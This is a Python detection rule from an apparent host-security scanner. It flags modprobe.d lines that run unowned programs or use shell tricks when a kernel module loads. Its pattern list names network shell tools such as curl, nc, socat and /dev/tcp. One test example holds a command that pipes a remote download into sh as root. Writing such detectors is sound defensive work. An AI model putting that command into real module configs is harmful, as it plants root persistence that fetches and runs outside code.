"""Commands of modprobe.d that run when a module is wanted."""

import re
from collections.abc import Iterable, Iterator

from hemostat.detect.check import HostContext, check, fires, quiet
from hemostat.detect.places import hidden_part, is_temporary
from hemostat.model.finding import Claim, RuleTexts, Subject
from hemostat.model.level import Level
from hemostat.model.path import HostPath
from hemostat.model.records import Mechanism, Provenance, Startup
from hemostat.model.text import Text

TEXTS = RuleTexts(
    title=Text(en="Wanting a module runs a foreign program", zh="模块加载时会执行来源不明的程序"),
    summary=Text(
        en="{file} runs `{command}` as root whenever the kernel wants {module}.",
        zh="{file}：内核需要 {module} 时以 root 执行 `{command}`。",
    ),
    benign=Text(
        en="Hardening points unwanted modules at /bin/true; drivers load a second module.",
        zh="安全加固常将不需要的模块指向 /bin/true；部分驱动会顺带加载其他模块。",
    ),
)
_PLAIN = (
    r"(/usr)?(/s?bin/)?(true|false|:|modprobe|insmod|rmmod|sysctl|udevadm|logger|sleep|test|\[|echo)"
    r"(\s+(>\s*/dev/null|>\s*/sys/\S+|2>&1|\$CMDLINE_OPTS|[^\s`$<>;|&]+))*\s*"
)
_ORDINARY = re.compile(rf"\{{?\s*{_PLAIN}((;|&&|\|\|)\s*{_PLAIN})*;?\s*\}}?(\s*#.*)?")
_SHELL_TRICK = re.compile(
    r"\b(curl|wget|nc|ncat|socat|base64|nohup|setsid|python[\d.]*|perl)\b|/dev/tcp/|(?<![&>])&\s*$"
)


def _startup(command: str, *programs: tuple[str, Provenance]) -> Startup:
    return Startup(
        mechanism=Mechanism.MODULE_COMMAND,
        name="usb",
        command=command,
        place=HostPath("/etc/modprobe.d/x.conf"),
        place_state="unowned",
        programs=tuple(HostPath(path) for path, _ in programs),
        program_states=tuple(str(state) for _, state in programs),
    )


@check(
    "linux.kernel.module-runs-command",
    level=Level.HIGH,
    confidence=Level.MEDIUM,
    category="kernel_module",
    attack="T1547.006",
    incident_types=("rootkit", "backdoor"),
    texts=TEXTS,
    next=("keep-evidence", "disable-persistence", "quarantine-file", "find-entry"),
    by_hand="cat {file}; ls -la {program}",
    examples=(
        fires(_startup("/opt/x", ("/opt/x", Provenance.UNOWNED))),
        fires(_startup("/sbin/modprobe -i usb; curl -s 192.0.2.1 | sh")),
        quiet(_startup("/bin/true", ("/bin/true", Provenance.PACKAGED))),
        quiet(
            _startup(
                "/sbin/modprobe --ignore-install usb && /sbin/modprobe usb-x",
                ("/sbin/modprobe", Provenance.PACKAGED),
            )
        ),
    ),
)
def module_runs_command(startups: Iterable[Startup], context: HostContext) -> Iterator[Claim]:
    """An install or remove line runs a program nobody vouches for, or fetches and detaches."""
    for startup in startups:
        if startup.mechanism is not Mechanism.MODULE_COMMAND or not startup.command:
            continue
        if startup.place_state == Provenance.PACKAGED or _ORDINARY.fullmatch(startup.command):
            continue
        level, program = _judged(startup, context)
        if level is not None:
            files = (Subject("file", startup.place),)
            yield Claim(
                subjects=(*files, Subject("file", program)) if program else files,
                because=(startup,),
                values={
                    "file": startup.place,
                    "command": startup.command,
                    "module": startup.name,
                    "program": program,
                },
                level=level,
            )


def _judged(startup: Startup, context: HostContext) -> tuple[Level | None, str]:
    """How bad the command is, and the program that makes it so."""
    states = dict(zip(startup.programs, startup.program_states, strict=False))
    for program in startup.programs:
        state = states.get(program)
        if is_temporary(program) or hidden_part(program) or state == Provenance.CHANGED:
            return Level.HIGH, program
        if state == Provenance.UNOWNED and context.has_package_database:
            return Level.HIGH, program
    if _SHELL_TRICK.search(startup.command):
        return Level.HIGH, ""
    return None, ""
